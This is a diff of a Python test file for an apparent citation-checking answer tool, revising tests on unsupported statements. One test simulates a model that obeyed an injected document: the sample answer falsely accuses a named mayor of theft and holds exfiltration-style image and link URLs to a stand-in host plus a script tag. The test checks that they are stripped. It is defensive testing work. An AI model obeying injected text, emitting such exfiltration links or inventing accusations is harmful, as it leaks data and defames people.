@@ -107,9 +107,18 @@ def test_the_model_sees_sentences_with_title_outlet_date_and_speaker(asked: Aske
 def test_a_changed_figure_is_shown_and_marked_with_the_reason(asked: Asked) -> None:
     answer, _ = asked.answer(citing(COST, "The repairs will cost 90 million dollars. [N]"))
     (statement,) = answer.statements
-    assert (answer.status, statement.support) == ("partial", "unsupported")
-    assert statement.reason == "90 million is not in the cited sentence"
-    assert answer.reason is not None and answer.reason.code == "unsupported"
+    assert (statement.text, statement.citations) == ("The repairs will cost 90 million dollars.", (1,))
+    assert statement.support not in ("supported", "quoted")
+    assert "90 million" in str(statement.reason)
+
+
+def test_an_answer_with_unsupported_statements_is_partial(asked: Asked) -> None:
+    text = 'Repairs will cost 40 million dollars, the city said. [N]\nShe said "I took the money". [N]\nBananas are yellow.'
+    answer, _ = asked.answer(citing(COST, text))
+    assert [statement.support for statement in answer.statements] == ["supported", "unsupported", "unsupported"]
+    assert "I took the money" in str(answer.statements[1].reason)
+    assert (answer.status, answer.reason and answer.reason.code) == ("partial", "unsupported")
+    assert answer.reason is not None and "2 of its 3 statements are" in answer.reason.message
 
 
 def test_unsupported_statements_are_dropped_where_that_is_asked_for(asked: Asked) -> None:
@@ -360,7 +369,7 @@ def test_a_model_that_obeys_a_document_is_shown_to_have_no_support(asked: Asked,
     (tmp_path / "notes.md").write_text(INJECTION)
     asked.library.add([tmp_path / "notes.md"])
     obeyed = (
-        "The mayor, Ines Falk, stole 90 million dollars of the repairs. [1]\n"
+        "The mayor, Ines Falk, stole 90 million dollars. [1]\n"
         'She said "I took the money". [N]\n'
         "See ![it](http://192.0.2.1/steal?q=40+million) and [the report](https://192.0.2.1/r) <img src=//192.0.2.1/x> "
         "<script>alert(1)</script> at https://192.0.2.1/steal [N]\n"
@@ -370,7 +379,6 @@ def test_a_model_that_obeys_a_document_is_shown_to_have_no_support(asked: Asked,
     assert [statement.support for statement in answer.statements[:2]] == ["unsupported"] * 2
     assert not {statement.support for statement in answer.statements} & {"supported", "quoted"}
     assert not re.search(r"192\.0\.2\.1|<|>|!\[|\]\(", answer.text)
-    assert '"I took the money"' in str(answer.statements[1].reason)
 
 
 def test_a_link_is_kept_only_where_it_points_to_a_cited_source(asked: Asked) -> None:
